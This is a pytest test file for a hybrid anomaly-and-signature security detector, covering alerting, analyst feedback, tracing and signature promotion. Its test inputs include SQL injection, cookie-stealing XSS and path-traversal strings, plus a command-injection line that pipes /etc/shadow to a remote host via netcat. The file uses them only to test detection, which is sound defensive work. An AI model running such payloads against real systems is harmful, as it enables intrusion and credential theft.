"""HybridDetector: routing, missing columns, feedback effects, trace, persistence."""

from __future__ import annotations

import warnings

import numpy as np
import pytest

from secml_detect import ByteFrequencyModel, HybridDetector, load, save
from secml_detect.exceptions import InvalidParameterError
from secml_detect.hybrid import Alert


def _normal_events(n=300, seed=0):
    rng = np.random.RandomState(seed)
    return [{"payload": f"id={rng.randint(10000)}&name=user{rng.randint(50)}&page={rng.randint(9)}",
             "service": "shop", "timestamp": f"2026-01-01T00:{i // 60:02d}:{i % 60:02d}"} for i in range(n)]


@pytest.fixture(scope="module")
def fitted():
    return HybridDetector([("payload", ByteFrequencyModel(), "payload")], random_state=0).fit(_normal_events())


def test_normal_events_rarely_alert_and_attacks_do(fitted):
    fresh = _normal_events(500, seed=1)
    attacks = [{"payload": p} for p in ("id=1' OR '1'='1' --", "<script>alert(document.cookie)</script>",
                                         "../../../../etc/passwd", ";cat /etc/shadow|nc 1.2.3.4 9")]
    normal_alert_rate = np.mean(fitted.predict(fresh))
    assert normal_alert_rate < 0.03  # ~model_fpr per component
    assert fitted.predict(attacks).tolist() == [1, 1, 1, 1]


def test_missing_columns_are_normal(fitted):
    scores = fitted.threat_score([{"dst_ip": "1.2.3.4"}, {}, {"payload": None}, {"payload": float("nan")}])
    assert scores.tolist() == [0.0, 0.0, 0.0, 0.0]


def test_dataframe_input(fitted):
    pd = pytest.importorskip("pandas")
    frame = pd.DataFrame({"payload": ["id=1&name=user1&page=1", "<script>x</script>", None], "dst_ip": [None, None, "1.1.1.1"]})
    scores = fitted.threat_score(frame)
    assert scores.shape == (3,) and scores[1] > scores[0] and scores[2] == 0.0


def test_alerts_are_ranked_explained_and_serialisable(fitted):
    events = _normal_events(20, seed=2) + [{"payload": "id=1' OR '1'='1' --"}, {"payload": "<script>alert(1)</script>"}]
    alerts = fitted.alerts(events)
    assert alerts and all(isinstance(a, Alert) for a in alerts)
    assert [a.threat_score for a in alerts] == sorted((a.threat_score for a in alerts), reverse=True)
    assert {a.index for a in alerts} >= {20, 21}
    top = alerts[0]
    assert top.alert_id.startswith("A-") and "payload" in top.contributions and top.explanations["payload"]
    assert top.to_json()  # JSON-serialisable
    # Stable ids: the same event gets the same id in another call.
    assert fitted.alerts(events[20:21])[0].alert_id == next(a.alert_id for a in alerts if a.index == 20)


def test_dismissed_false_positive_stops_alerting_and_similar_events_drop():
    hd = HybridDetector([("payload", ByteFrequencyModel(), "payload")], random_state=0).fit(_normal_events())
    # A legitimate but unusual format (a JSON body) that the profile has never seen.
    fp_event = {"payload": '{"cart":[{"sku":"A-1","qty":2}],"coupon":"XMAS"}'}
    similar = {"payload": '{"cart":[{"sku":"B-7","qty":1}],"coupon":"EASTER"}'}
    attack = {"payload": "id=1' OR '1'='1' --"}
    before = hd.threat_score([fp_event, similar, attack])
    assert before[0] >= hd.alert_threshold and before[1] >= hd.alert_threshold
    alert = next(a for a in hd.alerts([fp_event]))
    hd.feedback([alert.alert_id], ["benign"], notes=["JSON checkout API"], analyst="ana")
    after = hd.threat_score([fp_event, similar, attack])
    assert after[0] < hd.alert_threshold            # the dismissed event stops alerting
    assert after[1] < before[1]                     # a similar event drops in rank
    assert after[2] >= hd.alert_threshold           # real attacks still alert
    assert hd.feedback_[0]["verdict"] == "benign" and hd.feedback_[0]["analyst"] == "ana"


def test_feedback_trains_combiner_when_both_classes_seen():
    hd = HybridDetector([("payload", ByteFrequencyModel(), "payload")], random_state=0, label_prior=2.0)
    hd.fit(_normal_events())
    n = HybridDetector.MIN_LABELS_PER_CLASS
    events = [{"payload": f"id={i}' OR '1'='1"} for i in range(n)] + [{"payload": f'{{"k":{i}}}'} for i in range(n)]
    alerts = {a.index: a.alert_id for a in hd.alerts(events, threshold=0.0)}
    hd.feedback([alerts[i] for i in range(n - 1)] + [alerts[n + i] for i in range(n)], ["malicious"] * (n - 1) + ["benign"] * n)
    assert hd.combiner_ is None  # one malicious label short: the component is not re-weighted on anecdotes
    hd.feedback([alerts[n - 1]], ["malicious"])
    assert hd.combiner_ is not None and len(hd.labelled_y_) == 2 * n and hd.supervised_.all()
    scores = hd.threat_score([{"payload": "id=99' OR '1'='1"}, {"payload": '{"k":99}'}])
    assert scores[0] > scores[1]


def test_feedback_validates_input(fitted):
    with pytest.raises(InvalidParameterError, match="verdict"):
        fitted.feedback(["A-x"], ["maybe"])
    with pytest.raises(InvalidParameterError, match="unknown alert"):
        fitted.feedback(["A-doesnotexist"], ["benign"])


def test_fit_with_labels_and_classifier_requirement():
    events = _normal_events(100) + [{"payload": f"id={i}' OR 1=1 --"} for i in range(20)]
    y = np.r_[np.zeros(100), np.ones(20)]
    hd = HybridDetector([("payload", ByteFrequencyModel(), "payload")], random_state=0).fit(events, y)
    assert hd.combiner_ is not None
    from sklearn.linear_model import LogisticRegression

    with pytest.raises(InvalidParameterError, match="threat_score"):  # not a secml_detect detector
        HybridDetector([("x", LogisticRegression(), "x")]).fit(events)


def test_trace_follows_shared_indicators_back_in_time():
    events = [
        {"timestamp": "2026-01-01T10:00", "src_ip": "10.0.0.5", "dst_ip": "203.0.113.7", "domain": "evil.example"},
        {"timestamp": "2026-01-01T10:05", "src_ip": "10.0.0.9", "dst_ip": "198.51.100.1"},
        {"timestamp": "2026-01-01T10:10", "src_ip": "10.0.0.5", "dst_ip": "203.0.113.99", "calls": ["open", "read", "connect", "send"]},
        {"timestamp": "2026-01-01T11:00", "src_ip": "10.0.0.5", "dst_ip": "203.0.113.7", "calls": ["open", "read", "connect", "send", "exec"],
         "payload": "<script>alert(1)</script>"},
        {"timestamp": "2026-01-01T12:00", "src_ip": "10.0.0.5", "dst_ip": "203.0.113.7"},
    ]
    hd = HybridDetector([("payload", ByteFrequencyModel(), "payload")]).fit(_normal_events())
    alert = next(a for a in hd.alerts(events) if a.index == 3)
    trail = hd.trace(alert.alert_id, events)
    assert [t["index"] for t in trail] == [0, 2]  # not the later event 4, not the unrelated event 1
    assert any("dst_ip=203.0.113.7" in link for link in trail[0]["links"])
    assert any("similar calls" in link for link in trail[1]["links"])


def test_save_load_keeps_feedback_and_scores(tmp_path):
    hd = HybridDetector([("payload", ByteFrequencyModel(), "payload")], random_state=0).fit(_normal_events())
    fp = {"payload": '{"cart":[1,2,3]}'}
    hd.feedback([hd.alerts([fp], threshold=0.0)[0].alert_id], ["benign"])
    save(hd, tmp_path / "hd.smd")
    loaded = load(tmp_path / "hd.smd")
    events = [fp, {"payload": "<svg onload=alert(1)>"}]
    np.testing.assert_array_equal(loaded.threat_score(events), hd.threat_score(events))
    assert loaded.feedback_ == hd.feedback_


def test_bad_rows_get_fallback_score_and_keep_positions(fitted):
    with warnings.catch_warnings(record=True) as rec:
        warnings.simplefilter("always")
        scores = fitted.threat_score([{"payload": "id=1&name=user1&page=1"}, "not an event", 42])
    assert scores[1:].tolist() == [1.0, 1.0]
    assert any("indices 1, 2" in str(w.message) for w in rec)


from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

hostile_values = st.one_of(st.none(), st.text(max_size=200), st.binary(max_size=200), st.integers(),
                           st.floats(allow_nan=True, allow_infinity=True), st.lists(st.text(max_size=5), max_size=5))
hostile_events = st.lists(st.one_of(st.dictionaries(st.sampled_from(["payload", "dst_ip", "url", "calls", "x"]),
                                                    hostile_values, max_size=4),
                                    st.none(), st.integers(), st.text(max_size=5)), max_size=12)


@settings(deadline=None)
@given(hostile_events)
def test_hostile_event_tables_keep_length_and_never_crash(fitted, events):
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        scores = fitted.threat_score(events)
        alerts = fitted.alerts(events, threshold=0.0)
    assert scores.shape == (len(events),) and np.all((scores >= 0) & (scores <= 1))
    assert sorted(a.index for a in alerts) == list(range(len(events)))


def test_rules_and_models_together_and_promotion_to_shareable_signatures():
    from secml_detect import SignatureMatcher

    rules = SignatureMatcher(indicators={"ip": ["198.51.100.0/24"]})
    hd = HybridDetector([("payload", ByteFrequencyModel(), "payload")], rules, random_state=0).fit(_normal_events())
    usual = [e["payload"] for e in _normal_events(3, seed=7)]
    events = [
        {"dst_ip": "198.51.100.9", "payload": usual[0]},                          # rule only
        {"dst_ip": "203.0.113.5", "payload": "id=1' OR '1'='1' --"},              # model only
        {"dst_ip": "198.51.100.10", "payload": "<script>alert(1)</script>"},      # both
        {"dst_ip": "192.0.2.1", "payload": usual[1]},                             # neither
    ]
    scores = hd.threat_score(events)
    assert scores[2] > scores[0] >= 0.85 and scores[1] >= 0.5 and scores[3] < 0.5
    alerts = {a.index: a for a in hd.alerts(events)}
    assert alerts[0].rules and alerts[0].hits[0]["field"] == "dst_ip"
    # The analyst confirms the model-only finding: its destination becomes a signature.
    hd.feedback([alerts[1].alert_id], ["malicious"], notes=["SQLi from this C2"], analyst="ana")
    promoted = hd.promote()
    assert {(p["kind"], p["value"]) for p in promoted} == {("ip", "203.0.113.5")}
    assert promoted[0]["provenance"]["alert_id"] == alerts[1].alert_id
    later = hd.threat_score([{"dst_ip": "203.0.113.5", "payload": usual[2]}])
    assert later[0] >= 0.85  # caught by the new signature although the payload is normal
    stix = hd.export_signatures("stix")
    assert any("203.0.113.5" in obj.get("pattern", "") for obj in stix)
    assert "203.0.113.5" in hd.export_signatures("ioc")["ip"]
    assert hd.promote() == []  # nothing promoted twice


def test_promotion_of_a_slash24_needs_two_confirmations():
    hd = HybridDetector([("payload", ByteFrequencyModel(), "payload")], random_state=0).fit(_normal_events())
    events = [{"dst_ip": f"203.0.113.{i}", "payload": f"id={i}' OR 1=1 --"} for i in (5, 6)]
    ids = [a.alert_id for a in hd.alerts(events)]
    hd.feedback(ids, ["malicious", "malicious"])
    kinds = {(p["kind"], p["value"]) for p in hd.promote()}
    assert ("cidr", "203.0.113.0/24") in kinds
    assert hd.threat_score([{"dst_ip": "203.0.113.77"}])[0] >= 0.85


def test_labels_for_one_component_do_not_silence_an_unlabelled_anomaly_model():
    from secml_detect import URLClassifier

    benign = [f"shop{i}.example.com" for i in range(60)]
    bad = [f"secure-login-{i}.verify-account.xyz" for i in range(60)]
    events = [{"domain": d} for d in benign + bad] + _normal_events(200)
    y = np.r_[np.zeros(60), np.ones(60), np.zeros(200)]  # payload events are all normal: no attack labels
    hd = HybridDetector([("domain", URLClassifier(n_features=2**12, random_state=0), "domain"),
                         ("payload", ByteFrequencyModel(), "payload")], random_state=0).fit(events, y)
    assert hd.supervised_.tolist() == [True, False]
    scores = hd.threat_score([{"payload": "id=1' OR '1'='1' --"}, {"domain": "secure-login-999.verify-account.xyz"}])
    assert scores[0] >= hd.alert_threshold and scores[1] >= hd.alert_threshold


def test_unlabelled_classifier_waits_then_learns_from_analyst_verdicts(tmp_path):
    """AI^2-style start: an anomaly model ranks, analysts label, a classifier takes over."""
    from secml_detect import URLClassifier

    normal = [{"domain": f"shop{i}.example.com", "payload": e["payload"]} for i, e in enumerate(_normal_events(200))]
    hd = HybridDetector([("payload", ByteFrequencyModel(), "payload"),
                         ("domain", URLClassifier(n_features=2**12, random_state=0), "domain")], random_state=0).fit(normal)
    assert hd.pending_ == {"domain"}
    bad = [{"domain": f"login-verify-{i}.account-secure.xyz", "payload": "id=1' OR 1=1 --"} for i in range(20)]
    good = [{"domain": f"shop{i}.example.com", "payload": '{"json":1}'} for i in range(300, 320)]
    assert np.isnan(hd._component_scores(bad[:1])[0][0, 1])  # the waiting classifier does not vote
    hd.alerts([{"domain": f"shop{i}.example.com"} for i in range(1000, 1400)])  # ordinary traffic seen first
    alerts = hd.alerts(bad + good, threshold=0.0)
    hd.feedback([a.alert_id for a in alerts], ["malicious" if a.index < 20 else "benign" for a in alerts])
    assert hd.pending_ == set()
    unseen = hd.threat_score([{"domain": "login-verify-999.account-secure.xyz"}, {"domain": "shop999.example.com"}])
    assert unseen[0] > 0.5 > unseen[1]
    save(hd, tmp_path / "hd.smd")
    np.testing.assert_array_equal(load(tmp_path / "hd.smd").threat_score(bad[:3]), hd.threat_score(bad[:3]))


def test_background_reservoir_is_bounded_and_only_kept_for_classifiers():
    from secml_detect import URLClassifier

    events = [{"domain": f"shop{i}.example.com"} for i in range(HybridDetector.BACKGROUND_SIZE + 500)]
    anomaly_only = HybridDetector([("payload", ByteFrequencyModel(), "payload")]).fit(_normal_events(50))
    anomaly_only.alerts(events)
    assert anomaly_only.background_ == []  # nothing to teach: no reservoir is kept
    with_clf = HybridDetector([("domain", URLClassifier(n_features=2**10, random_state=0), "domain")],
                              random_state=0).fit(events[:10])
    with_clf.alerts(events)
    assert len(with_clf.background_) == HybridDetector.BACKGROUND_SIZE and with_clf.n_seen_ == len(events)
    late = sum(int(e["domain"][4:].split(".")[0]) >= HybridDetector.BACKGROUND_SIZE for e in with_clf.background_)
    assert 0 < late < 500  # the reservoir also holds events from the end of the stream


def _verdict_learner():
    from secml_detect import SignatureMatcher, URLClassifier

    rules = SignatureMatcher(indicators={"domain": ["known-bad.example"]})
    normal = [{"domain": f"shop{i}.example.com", "payload": e["payload"]} for i, e in enumerate(_normal_events(200))]
    return HybridDetector([("payload", ByteFrequencyModel(), "payload"),
                           ("domain", URLClassifier(n_features=2**12, random_state=0), "domain")],
                          rules, random_state=0).fit(normal)


def test_reservoir_keeps_rule_hits_out_of_presumed_benign_background():
    hd = _verdict_learner()
    hd.alerts([{"domain": "known-bad.example"}] * 50 + [{"domain": f"shop{i}.example.com"} for i in range(50)])
    assert len(hd.background_) == 50 and all(row["domain"] != "known-bad.example" for row in hd.background_)


def test_verdict_trained_scores_are_out_of_sample_and_ordinary_traffic_stays_low():
    hd = _verdict_learner()
    ordinary = [{"domain": f"shop{i}.example.com"} for i in range(1000, 1600)]
    hd.alerts(ordinary[:400])  # traffic seen: the presumed-benign reservoir
    for day in range(3):
        bad = [{"domain": f"login-verify-{day}-{i}.account-secure.xyz"} for i in range(15)]
        good = [{"domain": f"cdn{day}-{i}.static-assets.net"} for i in range(15)]
        alerts = hd.alerts(bad + good, threshold=0.0)
        hd.feedback([a.alert_id for a in alerts], ["malicious" if a.index < 15 else "benign" for a in alerts])
        if day == 0:
            # The classifier was fitted by this very batch, so it gave no score to learn from.
            assert np.isnan(hd.labelled_scores_[:, 1]).all()
    assert hd.labelled_presumed_.sum() == 90 and (hd.labelled_y_[hd.labelled_presumed_] == 0).all()
    assert hd.combiner_ is not None and hd.supervised_[1]
    fresh = hd.threat_score(ordinary[400:])          # never labelled, never in the reservoir
    assert np.mean(fresh >= hd.alert_threshold) < 0.02 and np.median(fresh) < 0.2
    novel = hd.threat_score([{"domain": f"login-verify-9-{i}.account-secure.xyz"} for i in range(20)])
    assert np.median(novel) > np.quantile(fresh, 0.99)


def test_verdict_trained_classifier_switches_to_online_updates_past_the_refit_limit():
    hd = _verdict_learner()
    hd.REFIT_LIMIT = 100  # instance override, to reach it with few labels
    hd.alerts([{"domain": f"shop{i}.example.com"} for i in range(1000, 1400)])
    probe = [{"domain": "login-verify-x.account-secure.xyz"}]
    stored = []
    for day in range(3):
        bad = [{"domain": f"login-verify-{day}-{i}.account-secure.xyz"} for i in range(15)]
        good = [{"domain": f"cdn{day}-{i}.static-assets.net"} for i in range(15)]
        alerts = hd.alerts(bad + good, threshold=0.0)
        before = hd.components_["domain"].threat_score([probe[0]["domain"]]) if day else None
        hd.feedback([a.alert_id for a in alerts], ["malicious" if a.index < 15 else "benign" for a in alerts])
        stored.append("domain" in hd.feedback_labels_)
        if day == 2:  # past the limit: updated by partial_fit, still learning
            assert hd.components_["domain"].threat_score([probe[0]["domain"]]) != before
    assert stored == [True, False, False]  # 60 labels refit; at 120 the store is dropped
